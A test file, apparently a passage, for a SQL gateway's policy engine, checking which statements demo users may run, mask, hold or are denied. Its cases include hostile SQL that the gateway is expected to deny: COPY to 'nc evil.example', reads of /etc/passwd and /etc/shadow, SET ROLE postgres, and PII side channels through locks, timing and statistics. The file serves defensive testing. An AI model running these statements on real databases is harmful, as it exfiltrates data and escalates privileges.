/**
 * Policy evaluation: who may run what on which target, decided per statement and for the message as a whole.
 * The first half is the demo policy of DESIGN.md ("Demo fixture") applied to the demo people; the second half pins
 * the semantics: most restrictive wins regardless of rule order, grants as an implicit rule, built-in fail-closed
 * checks that only an explicit rule can hold (or vouch for), search_path resolution. Real libpg-query, no mocks.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { classifyStatements, loadStatementParser } from '../../src/gateway/policy/classify.js';
import {
  DEMO_POLICY,
  evaluate,
  parsePolicy,
  type Decision,
  type PolicyAction,
  type Policy,
} from '../../src/gateway/policy/policy.js';

beforeAll(async () => {
  await loadStatementParser();
});

type Person = 'alice' | 'bob' | 'carol' | 'report-bot' | 'mallory';
const PEOPLE: Record<Person, { subject: string; groups: string[]; kind: 'human' | 'agent' }> = {
  alice: { subject: 'alice', groups: ['engineering'], kind: 'human' },
  bob: { subject: 'bob', groups: ['dba'], kind: 'human' },
  carol: { subject: 'carol', groups: ['security'], kind: 'human' },
  'report-bot': { subject: 'report-bot', groups: ['agents'], kind: 'agent' },
  mallory: { subject: 'mallory', groups: ['sales'], kind: 'human' },
};

function decide(
  who: Person | { subject: string; groups: string[]; kind: 'human' | 'agent' },
  sql: string,
  options: { policy?: Policy; searchPath?: string[]; target?: string } = {},
): Decision {
  return evaluate(options.policy ?? DEMO_POLICY, {
    identity: typeof who === 'string' ? PEOPLE[who] : who,
    target: options.target ?? 'prod-orders',
    searchPath: options.searchPath ?? ['$user', 'public'],
    classification: classifyStatements(sql),
  });
}

describe('the demo policy', () => {
  const cases: Array<[Person, string, PolicyAction, string]> = [
    // Reading: engineering and agents see PII masked, the auditor and the DBA see it plain, strangers nothing.
    ['alice', 'SELECT * FROM customers', 'mask', 'mask-pii'],
    ['report-bot', 'SELECT email, phone FROM customers WHERE id = 1', 'mask', 'mask-pii'],
    ['carol', 'SELECT * FROM customers', 'allow', 'access:read'],
    ['bob', 'SELECT * FROM payments', 'allow', 'access:write'],
    ['mallory', 'SELECT 1', 'deny', 'access:none'],
    // Writes: bounded ones by engineering are held; unbounded ones denied for everyone; payments always held.
    ['alice', 'DELETE FROM orders WHERE id = 1', 'hold', 'hold-engineering-writes'],
    ['alice', 'DELETE FROM orders', 'deny', 'deny-unbounded-writes'],
    ['bob', 'DELETE FROM orders', 'deny', 'deny-unbounded-writes'],
    ['bob', 'UPDATE customers SET email = \'x\' WHERE true', 'deny', 'deny-unbounded-writes'],
    ['bob', 'UPDATE orders SET status = \'paid\' WHERE id = 1', 'allow', 'access:write'],
    ['bob', 'UPDATE payments SET status = \'refunded\' WHERE id = 1', 'hold', 'hold-payments-writes'],
    ['bob', 'INSERT INTO public.payments (order_id, amount_cents) VALUES (1, 100)', 'hold', 'hold-payments-writes'],
    ['bob', 'INSERT INTO orders (customer_id) SELECT order_id FROM payments', 'allow', 'access:write'],
    ['report-bot', 'INSERT INTO orders (customer_id) VALUES (1)', 'deny', 'access:read'],
    ['carol', 'UPDATE orders SET status = \'paid\' WHERE id = 1', 'deny', 'access:read'],
    ['bob', 'SELECT nextval(\'orders_id_seq\')', 'allow', 'access:write'],
    ['report-bot', 'SELECT nextval(\'orders_id_seq\')', 'deny', 'access:read'],
    ['alice', 'SELECT * FROM customers WHERE id = 1 FOR UPDATE', 'hold', 'hold-engineering-writes'],
    ['report-bot', 'SELECT * FROM customers WHERE id = 1 FOR UPDATE', 'deny', 'access:read'],
    // Schema changes are held for everyone, engineering included; grants and roles need admin.
    ['alice', 'DROP TABLE payments', 'hold', 'hold-schema-changes'],
    ['bob', 'DROP TABLE payments', 'hold', 'hold-schema-changes'],
    ['report-bot', 'TRUNCATE orders', 'hold', 'hold-schema-changes'],
    ['bob', 'ALTER TABLE customers ADD COLUMN note text', 'hold', 'hold-schema-changes'],
    ['bob', 'CREATE INDEX orders_status ON orders (status)', 'hold', 'hold-schema-changes'],
    ['bob', 'GRANT SELECT ON customers TO alice', 'deny', 'access:write'],
    ['bob', 'CREATE ROLE intruder SUPERUSER', 'deny', 'access:write'],
    // Hidden writes.
    ['alice', 'EXPLAIN DELETE FROM orders WHERE id = 1', 'mask', 'mask-pii'],
    ['report-bot', 'EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1', 'deny', 'access:read'],
    ['report-bot', 'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', 'deny', 'access:read'],
    ['bob', 'WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d', 'deny', 'deny-unbounded-writes'],
    ['bob', 'CREATE TABLE orders_copy AS SELECT * FROM orders', 'hold', 'hold-schema-changes'],
    // Even approved, it would copy the masked columns into a table where they read in clear.
    ['report-bot', 'SELECT * INTO loot FROM customers', 'deny', 'builtin:inference'],
    // COPY.
    ['bob', 'COPY orders FROM STDIN', 'allow', 'access:write'],
    ['report-bot', 'COPY orders FROM STDIN', 'deny', 'access:read'],
    ['alice', 'COPY customers TO STDOUT', 'mask', 'mask-pii'],
    ['bob', 'COPY customers TO PROGRAM \'nc evil.example 9\'', 'deny', 'builtin:unanalyzable'],
    ['bob', 'COPY orders FROM \'/etc/passwd\'', 'deny', 'builtin:unanalyzable'],
    // DO, CALL, EXECUTE, LOAD.
    ['bob', 'DO $$ BEGIN UPDATE orders SET status = \'x\' WHERE id = 1; END $$', 'deny', 'builtin:do-block'],
    ['bob', 'DO $$ BEGIN EXECUTE \'TRUNCATE \' || \'orders\'; END $$', 'deny', 'builtin:unanalyzable'],
    ['bob', 'CALL archive_orders(2024)', 'deny', 'builtin:unknown-function'],
    ['bob', 'EXECUTE wipe(1)', 'deny', 'builtin:unanalyzable'],
    ['bob', 'LOAD \'auto_explain\'', 'deny', 'builtin:unanalyzable'],
    // Functions.
    ['alice', 'SELECT pg_read_file(\'/etc/passwd\')', 'deny', 'builtin:dangerous-function'],
    ['bob', 'SELECT lo_import(\'/etc/shadow\')', 'deny', 'builtin:dangerous-function'],
    ['carol', 'SELECT * FROM dblink(\'host=10.0.0.1\', \'SELECT 1\') AS t(a int)', 'deny', 'builtin:dangerous-function'],
    ['alice', 'SELECT query_to_xml(\'SELECT * FROM customers\', true, false, \'\')', 'deny', 'builtin:dynamic-sql'],
    ['alice', 'SELECT audit_touch(id) FROM customers', 'deny', 'builtin:unknown-function'],
    ['bob', 'UPDATE orders SET status = normalize_status(status) WHERE id = 1', 'deny', 'builtin:unknown-function'],
    ['bob', 'SELECT pg_sleep(0.1), pg_advisory_lock(1)', 'allow', 'access:write'],
    // Session escapes.
    ['alice', 'SET ROLE postgres', 'deny', 'builtin:session-escape'],
    ['bob', 'SET SESSION AUTHORIZATION postgres', 'deny', 'builtin:session-escape'],
    ['bob', 'RESET ROLE', 'deny', 'builtin:session-escape'],
    ['alice', 'SELECT set_config(\'role\', \'postgres\', false)', 'deny', 'builtin:session-escape'],
    // set_config('search_path', …) only as a SELECT of its own with constants: exactly a SET (pg_dump's scripts).
    ['bob', 'SELECT pg_catalog.set_config(\'search_path\', \'\', false)', 'allow', 'access:write'],
    ['alice', 'SELECT set_config(\'search_path\', \'evil\', false) FROM customers', 'deny', 'builtin:session-escape'],
    ['alice', 'SELECT set_config(\'search_path\', \'evil\', false) LIMIT 0', 'deny', 'builtin:session-escape'],
    ['alice', 'SELECT set_config(\'search_path\', \'evil\', false) WHERE false', 'deny', 'builtin:session-escape'],
    ['alice', 'SELECT set_config(\'search_path\', \'evil\', false) UNION ALL SELECT \'x\'', 'deny', 'builtin:session-escape'],
    ['alice', 'SELECT 1, set_config(\'search_path\', \'evil\', false)', 'deny', 'builtin:session-escape'],
    ['alice', 'SELECT set_config(\'search_path\', current_user, false)', 'deny', 'builtin:session-escape'],
    ['alice', 'SELECT set_config(\'search_path\', \'evil\', random() > 0.5)', 'deny', 'builtin:session-escape'],
    ['alice', 'SET standard_conforming_strings = off', 'deny', 'builtin:session-escape'],
    ['alice', 'SET standard_conforming_strings = on', 'mask', 'mask-pii'],
    ['bob', 'SET client_encoding = \'SJIS\'', 'deny', 'builtin:session-escape'],
    ['bob', 'SET NAMES \'utf-8\'', 'allow', 'access:write'],
    ['bob', 'SET search_path = archive, public', 'allow', 'access:write'],
    ['bob', 'RESET ALL', 'allow', 'access:write'],
    ['bob', 'SELECT set_config(\'application_name\', \'psql\', false)', 'allow', 'access:write'],
    // A setting read back with SHOW would carry a masked value past masking.
    ['alice', 'SELECT set_config(\'x.y\', email, false) FROM customers', 'deny', 'builtin:inference'],
    ['alice', 'SELECT set_config(\'x.y\', (SELECT ssn FROM customers LIMIT 1), false)', 'deny', 'builtin:inference'],
    ['alice', 'SELECT set_config(\'x.y\', $1, false)', 'mask', 'mask-pii'],
    ['alice', 'SELECT set_config(\'x.y\', \'literal\', false)', 'mask', 'mask-pii'],
    ['bob', 'SELECT set_config(\'x.y\', email, false) FROM customers', 'allow', 'access:write'],
    // Lock keys (pg_locks), delays and notifications show the values passed to them.
    ['alice', 'SELECT pg_advisory_lock(replace(ssn, \'-\', \'\')::bigint) FROM customers WHERE id = 1', 'deny', 'builtin:inference'],
    ['alice', 'SELECT pg_try_advisory_xact_lock(ascii(email)) FROM customers', 'deny', 'builtin:inference'],
    ['alice', 'SELECT pg_sleep(length(email) / 100.0) FROM customers WHERE id = 1', 'deny', 'builtin:inference'],
    ['bob', 'SELECT pg_advisory_lock(ascii(email)) FROM customers', 'allow', 'access:write'],
    ['alice', 'SELECT pg_advisory_lock(id) FROM customers WHERE id = 1', 'mask', 'mask-pii'],
    // Row counts: a set-returning function's, LIMIT's.
    ['alice', 'SELECT count(*) FROM (SELECT generate_series(1, ascii(email)) FROM customers WHERE id = 1) s', 'deny', 'builtin:inference'],
    ['alice', 'SELECT * FROM customers c, LATERAL unnest(string_to_array(c.ssn, \'-\')) WHERE c.id = 1', 'deny', 'builtin:inference'],
    ['alice', 'SELECT id FROM orders LIMIT (SELECT length(email) FROM customers WHERE id = 1)', 'deny', 'builtin:inference'],
    ['alice', 'SELECT id FROM orders OFFSET (SELECT ascii(ssn) FROM customers WHERE id = 1)', 'deny', 'builtin:inference'],
    ['alice', 'SELECT generate_series(1, 3), id FROM orders LIMIT 5', 'mask', 'mask-pii'],
    // The planner's statistics sample every column's values.
    ['alice', 'SELECT histogram_bounds FROM pg_stats WHERE attname = \'ssn\'', 'deny', 'builtin:masked-statistics'],
    ['alice', 'SELECT most_common_vals FROM pg_catalog.pg_stats', 'deny', 'builtin:masked-statistics'],
    ['alice', 'SELECT * FROM pg_stats_ext_exprs', 'deny', 'builtin:masked-statistics'],
    ['bob', 'SELECT histogram_bounds FROM pg_stats WHERE attname = \'ssn\'', 'allow', 'access:write'],
    // Messages are judged as a whole.
    ['alice', 'SELECT 1; DROP TABLE customers', 'hold', 'hold-schema-changes'],
    ['alice', 'SELECT 1; DELETE FROM orders; DROP TABLE customers', 'deny', 'deny-unbounded-writes'],
    ['bob', 'BEGIN; UPDATE orders SET status = \'x\' WHERE id = 1; COMMIT', 'allow', 'access:write'],
    ['bob', 'SELECT 1; SELEC 2', 'deny', 'builtin:parse-error'],
  ];

  it.each(cases)('%s: %s → %s (%s)', (who, sql, action, ruleId) => {
    const decision = decide(who, sql);
    expect({ action: decision.action, ruleId: decision.ruleId }).toEqual({ action, ruleId });
    expect(decision.message).toMatch(/^dbgate: /);
    expect(decision.detail).toBe(`rule: ${ruleId}`);
    if (action === 'deny' || action === 'hold') expect(decision.hint).not.toBe('');
  });

  it('masks the demo PII columns, schema-qualified, for engineering', () => {
    expect(decide('alice', 'SELECT * FROM customers').maskColumns).toEqual([
      'public.customers.email',
      'public.customers.phone',
      'public.customers.ssn',
      'public.payments.card_number',
    ]);
    expect(decide('carol', 'SELECT * FROM customers').maskColumns).toEqual([]);
  });

  it('says what was denied and why, and what to do next', () => {
    const decision = decide('alice', 'DELETE FROM orders');
    expect(decision).toMatchObject({
      message: 'dbgate: DELETE on orders denied: UPDATE/DELETE without a WHERE clause would change every row',
      detail: 'rule: deny-unbounded-writes',
      hint: 'add a WHERE clause that selects the rows to change',
      statementIndex: 0,
    });
  });

  it('names the approvers when it holds a statement', () => {
    const decision = decide('alice', 'DROP TABLE payments');
    expect(decision.message).toBe(
      'dbgate: DROP TABLE on payments is held for approval: DROP, TRUNCATE, ALTER and other schema changes need an approval',
    );
    expect(decision.hint).toMatch(/approver \(group dba\)/);
  });

  it('names the access level when a read-only identity writes', () => {
    expect(decide('report-bot', 'INSERT INTO orders (customer_id) VALUES (1)').message).toBe(
      'dbgate: INSERT on orders writes, and your access to prod-orders is read-only',
    );
  });

  it('reports which statement of a message decided', () => {
    const decision = decide('alice', 'SELECT 1; SELECT 2; DELETE FROM orders');
    expect(decision.statementIndex).toBe(2);
    expect(decision.statements.map((statement) => statement.action)).toEqual(['mask', 'mask', 'deny']);
  });

  it('has no access to a target nobody granted', () => {
    expect(decide('bob', 'SELECT 1', { target: 'analytics' })).toMatchObject({
      action: 'deny',
      ruleId: 'access:none',
      message: 'dbgate: you have no access to target analytics',
    });
  });

  it('allows an empty message', () => {
    expect(decide('alice', '-- nothing')).toMatchObject({ action: 'allow', ruleId: 'builtin:empty', statementIndex: -1 });
  });
});

/** A policy for semantics tests: admins on every target, plus the rules given. */
function policyWith(rules: unknown[], grants?: unknown[]): Policy {
  return parsePolicy({
    grants: grants ?? [
      { groups: ['admins'], targets: ['*'], access: 'admin' },
      { groups: ['writers'], targets: ['prod-orders'], access: 'write' },
      { groups: ['readers'], targets: ['prod-orders'], access: 'read' },
    ],
    rules,
  });
}
const admin = { subject: 'ada', groups: ['admins'], kind: 'human' as const };
const writer = { subject: 'wes', groups: ['writers'], kind: 'human' as const };
const reader = { subject: 'rita', groups: ['readers'], kind: 'human' as const };

describe('rule semantics: the most restrictive matching rule wins, whatever the order', () => {
  const rules = [
    { id: 'allow-everything', match: {}, action: 'allow' },
    { id: 'mask-customers', match: { tables: ['customers'] }, action: 'mask', columns: ['customers.email'] },
    { id: 'hold-writes', match: { writes: true }, action: 'hold' },
    { id: 'deny-payments', match: { tables: ['payments'] }, action: 'deny', reason: 'payments are off limits' },
  ];
  const forward = policyWith(rules);
  const backward = policyWith([...rules].reverse());

  it.each([
    ['UPDATE payments SET status = \'x\' WHERE id = 1', 'deny', 'deny-payments'],
    ['UPDATE orders SET status = \'x\' WHERE id = 1', 'hold', 'hold-writes'],
    ['SELECT * FROM customers', 'mask', 'mask-customers'],
    ['SELECT * FROM orders', 'allow', 'allow-everything'],
  ])('%s → %s (%s) in both rule orders', (sql, action, ruleId) => {
    for (const policy of [forward, backward]) {
      expect(decide(admin, sql, { policy })).toMatchObject({ action, ruleId });
    }
  });

  it('reports the first rule in the file among rules with the same action', () => {
    const twoDenies = [
      { id: 'deny-a', match: { tables: ['orders'] }, action: 'deny' },
      { id: 'deny-b', match: { kinds: ['delete'] }, action: 'deny' },
    ];
    expect(decide(admin, 'DELETE FROM orders WHERE id = 1', { policy: policyWith(twoDenies) }).ruleId).toBe('deny-a');
    expect(decide(admin, 'DELETE FROM orders WHERE id = 1', { policy: policyWith([...twoDenies].reverse()) }).ruleId).toBe('deny-b');
  });

  it('masks the columns of every matching mask rule', () => {
    const policy = policyWith([
      { id: 'mask-email', match: {}, action: 'mask', columns: ['public.customers.email'] },
      { id: 'mask-card', match: { groups: ['admins'] }, action: 'mask', columns: ['payments.card_number'] },
    ]);
    expect(decide(admin, 'SELECT 1', { policy }).maskColumns).toEqual([
      'public.customers.email',
      'public.payments.card_number',
    ]);
  });

  it('applies rules only to the groups and targets they name', () => {
    const policy = policyWith([{ id: 'deny-readers', match: { groups: ['readers'], targets: ['prod-orders'] }, action: 'deny' }]);
    expect(decide(reader, 'SELECT 1', { policy }).action).toBe('deny');
    expect(decide(admin, 'SELECT 1', { policy }).action).toBe('allow');
    expect(decide(reader, 'SELECT 1', { policy, target: 'staging' }).ruleId).toBe('access:none');
  });

  it('matches where: absent / present and writes: true with tables (one of those tables is written)', () => {
    const policy = policyWith([
      { id: 'hold-unbounded', match: { where: 'absent' }, action: 'hold' },
      { id: 'deny-written-payments', match: { tables: ['payments'], writes: true }, action: 'deny' },
    ]);
    expect(decide(admin, 'DELETE FROM orders', { policy }).ruleId).toBe('hold-unbounded');
    expect(decide(admin, 'DELETE FROM orders WHERE id = 1', { policy }).action).toBe('allow');
    expect(decide(admin, 'INSERT INTO orders SELECT * FROM payments', { policy }).action).toBe('allow');
    expect(decide(admin, 'INSERT INTO payments SELECT * FROM orders', { policy }).ruleId).toBe('deny-written-payments');
  });

  it('matches DDL by object type and action', () => {
    const policy = policyWith([
      { id: 'deny-drop-table', match: { ddl_objects: ['table'], ddl_actions: ['drop'] }, action: 'deny' },
      { id: 'hold-functions', match: { ddl_objects: ['function', 'procedure'] }, action: 'hold' },
    ]);
    expect(decide(admin, 'DROP TABLE orders', { policy }).ruleId).toBe('deny-drop-table');
    expect(decide(admin, 'CREATE TABLE t (id int)', { policy }).ruleId).toBe('access:admin');
    expect(decide(admin, 'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS \'SELECT 1\'', { policy }).ruleId).toBe('hold-functions');
  });
});

describe('grants: the access level is an implicit rule', () => {
  it('takes the highest level any of the identity\'s groups has on the target', () => {
    const both = { subject: 'x', groups: ['readers', 'writers'], kind: 'human' as const };
    expect(decide(both, 'UPDATE orders SET status = \'x\' WHERE id = 1', { policy: policyWith([]) }).action).toBe('allow');
  });

  it('denies a write with read access, unless a rule holds it', () => {
    expect(decide(reader, 'UPDATE orders SET status = \'x\' WHERE id = 1', { policy: policyWith([]) })).toMatchObject({
      action: 'deny',
      ruleId: 'access:read',
    });
    const holding = policyWith([{ id: 'hold-writes', match: { writes: true }, action: 'hold' }]);
    expect(decide(reader, 'UPDATE orders SET status = \'x\' WHERE id = 1', { policy: holding })).toMatchObject({
      action: 'hold',
      ruleId: 'hold-writes',
    });
  });

  it('needs admin for DDL, grants and roles: write access is not enough', () => {
    const policy = policyWith([]);
    expect(decide(writer, 'DELETE FROM orders WHERE id = 1', { policy }).action).toBe('allow');
    for (const sql of ['CREATE TABLE t (id int)', 'GRANT SELECT ON orders TO x', 'ALTER ROLE x SUPERUSER']) {
      expect(decide(writer, sql, { policy })).toMatchObject({ action: 'deny', ruleId: 'access:write' });
      expect(decide(admin, sql, { policy })).toMatchObject({ action: 'allow', ruleId: 'access:admin' });
    }
  });

  it('denies everything without a grant, and no rule changes that', () => {
    const policy = policyWith([{ id: 'allow-all', match: {}, action: 'allow' }, { id: 'hold-all', match: {}, action: 'hold' }]);
    const stranger = { subject: 's', groups: [], kind: 'human' as const };
    expect(decide(stranger, 'SELECT 1', { policy })).toMatchObject({ action: 'deny', ruleId: 'access:none' });
  });
});

describe('built-in checks only an explicit rule can hold or vouch for', () => {
  it('a rule naming a dangerous function for a group vouches for it, for that group only', () => {
    const policy = policyWith([{ id: 'dba-reads-logs', match: { groups: ['admins'], functions: ['pg_read_file'] }, action: 'allow' }]);
    expect(decide(admin, 'SELECT pg_read_file(\'log/postgresql.log\')', { policy })).toMatchObject({
      action: 'allow',
      ruleId: 'dba-reads-logs',
    });
    expect(decide(reader, 'SELECT pg_read_file(\'log/postgresql.log\')', { policy }).ruleId).toBe('builtin:dangerous-function');
  });

  it('a rule naming one function does not vouch for another in the same statement', () => {
    const policy = policyWith([{ id: 'allow-dblink', match: { functions: ['dblink'] }, action: 'allow' }]);
    const decision = decide(admin, 'SELECT pg_read_file(\'x\') FROM dblink(\'\', \'SELECT 1\') AS t(a int)', { policy });
    expect(decision).toMatchObject({ action: 'deny', ruleId: 'builtin:dangerous-function' });
    expect(decision.message).toMatch(/pg_read_file/);
  });

  it('a hold rule naming a dangerous function holds the statement', () => {
    const policy = policyWith([{ id: 'hold-lo', match: { functions: ['lo_export'] }, action: 'hold' }]);
    expect(decide(admin, 'SELECT lo_export(1234, \'/tmp/x\')', { policy })).toMatchObject({ action: 'hold', ruleId: 'hold-lo' });
  });

  it('a rule naming an unknown function vouches for it, also on a write path', () => {
    const policy = policyWith([{ id: 'vouch-normalize', match: { functions: ['public.normalize_status'] }, action: 'allow' }]);
    expect(decide(writer, 'UPDATE orders SET status = public.normalize_status(status) WHERE id = 1', { policy }).action).toBe('allow');
    // Only the function it names, spelled in the same schema.
    expect(decide(writer, 'UPDATE orders SET status = evil.normalize_status(status) WHERE id = 1', { policy }).ruleId).toBe(
      'builtin:unknown-function',
    );
  });

  it('vouching for a function does not lift the access level', () => {
    const policy = policyWith([{ id: 'vouch', match: { functions: ['refresh_totals'] }, action: 'allow' }]);
    expect(decide(reader, 'CALL refresh_totals()', { policy })).toMatchObject({ action: 'deny', ruleId: 'access:read' });
  });

  it('DO: allowed only when a rule names kind do, and then judged by what the block does', () => {
    const policy = policyWith([{ id: 'allow-do', match: { groups: ['admins', 'readers'], kinds: ['do'] }, action: 'allow' }]);
    const block = 'DO $$ BEGIN UPDATE orders SET status = \'x\' WHERE id = 1; END $$';
    expect(decide(admin, block, { policy })).toMatchObject({ action: 'allow', ruleId: 'allow-do' });
    expect(decide(reader, block, { policy })).toMatchObject({ action: 'deny', ruleId: 'access:read' });
    expect(decide(admin, block, { policy: policyWith([]) })).toMatchObject({ action: 'deny', ruleId: 'builtin:do-block' });
  });

  it('DO with dynamic SQL: an allow rule cannot let it through, a hold rule holds it', () => {
    const block = 'DO $$ BEGIN EXECUTE \'DELETE FROM orders\'; END $$';
    const allowing = policyWith([{ id: 'allow-do', match: { kinds: ['do'] }, action: 'allow' }]);
    expect(decide(admin, block, { policy: allowing })).toMatchObject({ action: 'deny', ruleId: 'builtin:unanalyzable' });
    const holding = policyWith([{ id: 'hold-do', match: { kinds: ['do'] }, action: 'hold', reason: 'a DBA reads DO blocks first' }]);
    const decision = decide(admin, block, { policy: holding });
    expect(decision).toMatchObject({ action: 'hold', ruleId: 'hold-do' });
    expect(decision.message).toMatch(/held for approval: a DBA reads DO blocks first$/);
  });

  it('CALL: a rule naming kind call can hold or vouch for the procedure', () => {
    const holding = policyWith([{ id: 'hold-calls', match: { kinds: ['call'] }, action: 'hold' }]);
    expect(decide(admin, 'CALL archive_orders(2024)', { policy: holding })).toMatchObject({ action: 'hold', ruleId: 'hold-calls' });
    const allowing = policyWith([{ id: 'allow-calls', match: { groups: ['admins'], kinds: ['call'] }, action: 'allow' }]);
    expect(decide(admin, 'CALL archive_orders(2024)', { policy: allowing })).toMatchObject({ action: 'allow', ruleId: 'allow-calls' });
  });

  it('COPY … PROGRAM: only a hold rule naming kind copy changes the deny', () => {
    const sql = 'COPY orders TO PROGRAM \'gzip > /tmp/orders.gz\'';
    expect(decide(admin, sql, { policy: policyWith([{ id: 'allow-copy', match: { kinds: ['copy'] }, action: 'allow' }]) }).ruleId).toBe(
      'builtin:unanalyzable',
    );
    expect(decide(admin, sql, { policy: policyWith([{ id: 'hold-copy', match: { kinds: ['copy'] }, action: 'hold' }]) }).action).toBe('hold');
  });

  it('session escapes are denied even for admins whom a rule allows everything', () => {
    const policy = policyWith([{ id: 'allow-all', match: {}, action: 'allow' }]);
    expect(decide(admin, 'SET ROLE postgres', { policy })).toMatchObject({ action: 'deny', ruleId: 'builtin:session-escape' });
  });

  it('parse errors are denied with the parser\'s message', () => {
    expect(decide(admin, 'SELEC 1', { policy: policyWith([]) })).toMatchObject({
      action: 'deny',
      ruleId: 'builtin:parse-error',
      message: 'dbgate: the statement does not parse: syntax error at or near "SELEC"',
    });
  });
});

describe('search_path', () => {
  const protectArchive = policyWith([{ id: 'deny-archive', match: { tables: ['archive.customers'] }, action: 'deny' }]);

  it('resolves unqualified tables through the session\'s search_path', () => {
    expect(decide(admin, 'DELETE FROM customers WHERE id = 1', { policy: protectArchive }).action).toBe('allow');
    expect(decide(admin, 'DELETE FROM customers WHERE id = 1', { policy: protectArchive, searchPath: ['archive', 'public'] }).ruleId).toBe(
      'deny-archive',
    );
  });

  it('applies a SET search_path to the statements after it in the same message, and returns it', () => {
    const decision = decide(admin, 'SET search_path = archive, public; DELETE FROM customers WHERE id = 1', { policy: protectArchive });
    expect(decision).toMatchObject({ action: 'deny', ruleId: 'deny-archive', statementIndex: 1, searchPath: ['archive', 'public'] });
    expect(decision.sessionEffects).toMatchObject([{ kind: 'search_path', searchPath: ['archive', 'public'] }]);
  });

  it('RESET ALL returns the tracked search_path to the default', () => {
    const decision = decide(admin, 'RESET ALL', { policy: protectArchive, searchPath: ['archive'] });
    expect(decision.searchPath).toEqual(['$user', 'public']);
  });

  it('a rule naming a bare table matches it in every schema', () => {
    const policy = policyWith([{ id: 'deny-customers', match: { tables: ['customers'] }, action: 'deny' }]);
    expect(decide(admin, 'SELECT * FROM archive.customers', { policy }).ruleId).toBe('deny-customers');
  });

  it('restrictions match any schema on the search_path, permissions only the first', () => {
    const allowing = policyWith([{ id: 'allow-public-customers', match: { tables: ['public.customers'] }, action: 'allow' }]);
    expect(decide(admin, 'SELECT * FROM customers', { policy: allowing, searchPath: ['public'] }).ruleId).toBe('allow-public-customers');
    expect(decide(admin, 'SELECT * FROM customers', { policy: allowing, searchPath: ['archive', 'public'] }).ruleId).toBe('access:admin');
    const denying = policyWith([{ id: 'deny-public-customers', match: { tables: ['public.customers'] }, action: 'deny' }]);
    expect(decide(admin, 'SELECT * FROM customers', { policy: denying, searchPath: ['archive', 'public'] }).ruleId).toBe(
      'deny-public-customers',
    );
  });

  it('treats built-ins as unknown when the search_path puts another schema before pg_catalog', () => {
    const policy = policyWith([]);
    expect(decide(admin, 'SELECT lower(email) FROM customers', { policy }).action).toBe('allow');
    expect(decide(admin, 'SELECT lower(email) FROM customers', { policy, searchPath: ['public', 'pg_catalog'] })).toMatchObject({
      action: 'deny',
      ruleId: 'builtin:unknown-function',
    });
    expect(decide(admin, 'SELECT pg_catalog.lower(email) FROM customers', { policy, searchPath: ['public', 'pg_catalog'] }).action).toBe(
      'allow',
    );
  });

  it('qualifies unqualified mask columns with every schema the table can be in', () => {
    const policy = policyWith([{ id: 'mask-email', match: {}, action: 'mask', columns: ['customers.email'] }]);
    expect(decide(admin, 'SELECT * FROM sales.customers', { policy }).maskColumns).toEqual([
      'public.customers.email',
      'sales.customers.email',
    ]);
  });
});

describe('result columns computed from masked columns (derivedOutputs)', () => {
  const derived = (sql: string, who: Person = 'alice'): Decision['derivedOutputs'] => decide(who, sql).derivedOutputs;
  const flags = (sql: string): string =>
    (derived(sql)?.columns ?? []).map((column) => `${column.star ? '*' : ''}${column.masked ? (column.computed ? 'C' : 'V') : '-'}`).join(' ');

  it('marks select-list entries by lineage, whatever the expression', () => {
    expect(flags('SELECT id, length(email), reverse(ssn), name FROM customers')).toBe('- C C -');
    expect(flags("SELECT email = 'x', upper(name) FROM customers")).toBe('C -');
    expect(flags('SELECT r FROM (SELECT reverse(phone) AS r FROM customers) s')).toBe('C');
    expect(flags('WITH x AS (SELECT ssn AS s FROM customers) SELECT s || \'\' FROM x')).toBe('C');
    expect(flags("SELECT email FROM customers UNION ALL SELECT 'x'")).toBe('V');
    expect(flags('SELECT (SELECT email FROM customers LIMIT 1) AS e')).toBe('V');
    expect(flags('SELECT row_to_json(c) FROM customers c')).toBe('C');
    expect(flags('SELECT card_number FROM payments')).toBe('V');
  });

  it('keeps stars apart: a star over a table is attributed by PostgreSQL, one over a derived relation is not', () => {
    expect(flags('SELECT *, length(email) FROM customers')).toBe('*- C');
    expect(flags('SELECT s.* FROM (SELECT id, reverse(email) AS r FROM customers) s')).toBe('*C');
  });

  it('has none for statements with nothing computed from masked columns, and none for unmasked identities', () => {
    expect(derived('SELECT count(*), max(id) FROM customers')).toBeNull();
    expect(derived('SELECT id, name FROM customers')).toBeNull();
    expect(derived('SELECT length(email) FROM customers', 'carol')).toBeNull();
    expect(derived('SELECT length(email) FROM customers', 'bob')).toBeNull();
  });

  it('takes the strictest style of the rules involved', () => {
    const policy = parsePolicy({
      grants: [{ groups: ['engineering'], targets: ['*'], access: 'read' }],
      rules: [
        { id: 'mask-email', match: { groups: ['engineering'] }, action: 'mask', columns: ['customers.email'], style: 'hash' },
        { id: 'mask-ssn', match: { groups: ['engineering'] }, action: 'mask', columns: ['customers.ssn'], style: 'redact' },
      ],
    });
    const decided = decide('alice', 'SELECT length(email), reverse(ssn) FROM customers', { policy });
    expect(decided.derivedOutputs).toEqual({ columns: [{ masked: true, star: false, computed: true }, { masked: true, star: false, computed: true }], style: 'redact' });
    expect(decide('alice', 'SELECT md5(email) FROM customers', { policy }).derivedOutputs?.style).toBe('hash');
  });

  it('masks what FETCH returns even when the mask rule names tables FETCH does not', () => {
    const policy = parsePolicy({
      grants: [{ groups: ['engineering'], targets: ['*'], access: 'read' }],
      rules: [{ id: 'mask-customers', match: { groups: ['engineering'], tables: ['public.customers'] }, action: 'mask', columns: ['customers.email'] }],
    });
    expect(decide('alice', 'DECLARE c CURSOR FOR SELECT email FROM customers', { policy }).action).toBe('mask');
    expect(decide('alice', 'FETCH 10 FROM c', { policy })).toMatchObject({ action: 'mask', ruleId: 'mask-customers' });
    expect(decide('alice', 'MOVE 10 IN c', { policy }).action).toBe('allow');
    expect(decide('alice', 'SELECT 1', { policy }).action).toBe('allow');
  });

  it('refuses writes that copy masked values anywhere they could be read in clear', () => {
    const policy = parsePolicy({
      inference_protection: true,
      grants: [{ groups: ['support'], targets: ['*'], access: 'admin' }],
      rules: [{ id: 'mask-email', match: { groups: ['support'] }, action: 'mask', columns: ['customers.email'], style: 'partial' }],
    });
    const support = { subject: 'sam', groups: ['support'], kind: 'human' as const };
    for (const sql of [
      'INSERT INTO orders (customer_id, status) SELECT id, email FROM customers',
      'INSERT INTO notes SELECT * FROM customers',
      'INSERT INTO notes VALUES ((SELECT email FROM customers LIMIT 1))',
      'UPDATE customers SET name = email WHERE id = 1',
